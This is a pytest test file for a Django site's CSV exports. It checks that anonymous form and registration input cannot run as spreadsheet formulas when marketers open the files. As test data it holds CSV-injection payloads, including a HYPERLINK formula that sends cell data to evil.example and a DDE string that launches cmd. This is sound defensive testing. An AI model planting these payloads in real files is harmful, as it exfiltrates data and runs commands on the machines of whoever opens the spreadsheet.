"""No file the product writes runs a formula when a marketer opens it (OWASP "CSV injection").

Anonymous form input reached the form-submissions, registrations and consent-records exports raw:
`=HYPERLINK(...)`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`, and a leading tab or space before them.
"""

import csv
import io

import pytest
from django.core.cache import cache
from django.test import Client

from core.spreadsheets import neutralise
from forms.models import ConsentRecord, LeadFormSubmission
from tests.events.conftest import generated_page, register
from tests.factories import EventFactory, LeadFormPageFactory
from tests.forms.conftest import consent_policies, submit  # noqa: F401 - consent_policies is a fixture

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n+1+1",
    "\u00a0@SUM(A1)",
    "\u3000=1+1",
    "\uff1d1+1",
]
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would do with the cell: skip leading blanks, then look for a trigger."""
    if not cell or cell.startswith("'"):
        return False
    return cell[:1] in "\t\r\n" or cell.lstrip(" \t\r\n\u00a0\u3000\u2000\u200b")[:1] in TRIGGERS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised(payload):
    assert neutralise(payload) == "'" + payload
    assert not runs_as_formula(neutralise(payload))


@pytest.mark.parametrize("text", ["", "Jana", "jana+news@example.com", "a=b", " spaced", "\tnote", "+", "' quoted"])
def test_plain_text_is_left_alone(text):
    expected = "'" + text if text in ("+", "\tnote") else text  # a lone "+" is a formula start; a tab too
    assert neutralise(text) == expected


def csv_rows(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows, payloads_expected: int):
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if runs_as_formula(cell)]
    assert dangerous == [], dangerous
    neutralised = [cell for cell in cells if cell.startswith("'") and runs_as_formula(cell[1:])]
    assert len(neutralised) >= payloads_expected, (neutralised, cells)


@pytest.fixture(autouse=True)
def _human_speed(settings):
    """Forms refuse answers sent faster than a person types; the rate limits count in the cache."""
    settings.FORMS_MIN_FILL_SECONDS = 0
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def marketer_client(django_user_model):
    admin = django_user_model.objects.create_superuser("ada", "ada@example.com", "pw-ada-secret-123")
    client = Client()
    client.force_login(admin)
    return client


@pytest.mark.usefixtures("consent_policies")
def test_a_visitors_answers_reach_the_submissions_and_consent_exports_neutralised(client, marketer_client, home_page):
    form_page = LeadFormPageFactory(parent=home_page, title="Contact sales", slug="contact-sales")
    answers = {
        "work_email": "-2+3@meridian-bank.de",
        "first_name": PAYLOADS[0],
        "last_name": PAYLOADS[1],
        "company": "\t@SUM(1+1)",
        "country": "DE",
    }
    response = submit(client, form_page.url, answers, headers={"CF-IPCountry": "DE"})
    assert response.status_code == 200
    assert LeadFormSubmission.objects.count() == 1 and ConsentRecord.objects.count() == 1

    submissions = marketer_client.get(f"/admin/forms/submissions/{form_page.pk}/?export=csv")
    assert submissions.status_code == 200
    assert_no_formula(csv_rows(submissions), payloads_expected=4)

    records = marketer_client.get("/admin/forms/consent-records/?export=csv")
    assert records.status_code == 200
    assert_no_formula(csv_rows(records), payloads_expected=1)  # the address


def test_registration_answers_reach_the_registrations_export_neutralised(client, marketer_client, home_page):
    from events.models import Registration

    event = EventFactory(title="@SUM(1+1) Meetup", capacity=10)
    page = generated_page(event)
    response = register(
        page,
        client,
        first_name=PAYLOADS[2],
        last_name=" =1+1",
        company=PAYLOADS[1],
        work_email="+sales@acme-hostile.de",
    )
    assert response.status_code == 200
    assert Registration.objects.count() == 1
    url = Registration.snippet_viewset.get_url_name("list")
    from django.urls import reverse

    export = marketer_client.get(reverse(url) + f"?export=csv&event={event.pk}")
    assert export.status_code == 200
    assert_no_formula(csv_rows(export), payloads_expected=4)  # names, company, address (and the title)
